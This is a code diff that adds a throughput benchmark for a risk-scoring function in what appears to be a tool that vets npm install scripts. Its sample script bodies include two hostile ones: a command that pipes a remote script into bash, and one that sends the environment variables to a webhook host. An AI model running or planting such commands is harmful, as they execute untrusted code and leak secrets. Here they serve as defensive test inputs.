@@ -71,3 +71,13 @@ const verdictMs = bestOf(5, () => {
 const vps = facts.length / (verdictMs / 1000);
 report('default-policy verdicts/s (same mix, 10% with postinstall)', vps, 'verdicts/s', { text: '>= 200,000/s', ok: vps >= 200_000 });
 report('flagged in the mix (informational)', flagged, `of ${mix.length}`);
+
+// Risk signals: distinct script bodies (the memo would otherwise answer), legit and malicious mixed.
+const { assessScript } = await importTs('packages/core/src/risk/index.ts');
+const bodies = ['node install.js', 'node-gyp-build', 'prebuild-install || node-gyp rebuild', 'curl -sL https://x.example/i.sh | bash',
+  'node -e "try{require(\'./postinstall\')}catch(e){}"', 'env | curl -d @- https://webhook.site/x'];
+let serial = 0;
+const riskMs = bestOf(3, () => {
+  for (let i = 0; i < 20000; i++) assessScript(`${bodies[i % bodies.length]} # ${serial++}`);
+});
+report('assessScript on distinct bodies (no memo hits)', 20000 / (riskMs / 1000), 'scripts/s');
